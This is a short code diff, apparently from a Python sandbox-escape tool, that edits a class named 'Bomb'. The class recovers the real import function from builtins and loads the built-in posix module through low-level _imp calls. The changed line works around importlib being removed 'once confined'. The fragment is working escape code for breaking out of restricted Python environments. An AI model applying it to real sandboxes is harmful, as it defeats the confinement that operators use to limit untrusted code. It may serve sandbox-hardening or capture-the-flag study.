@@ -10,7 +10,7 @@ class Bomb:
                 return cls.__init__.__globals__["__builtins__"]["__import__"](name, fromlist=["_"])
 
     def posix(self):
-        machinery = self.real_import("importlib.machinery")
+        machinery = self.real_import("sys").modules["_frozen_importlib"]  # importlib is gone once confined
         imp = self.real_import("_imp")
         module = imp.create_builtin(machinery.ModuleSpec("posix", machinery.BuiltinImporter, origin="built-in"))
         imp.exec_builtin(module)
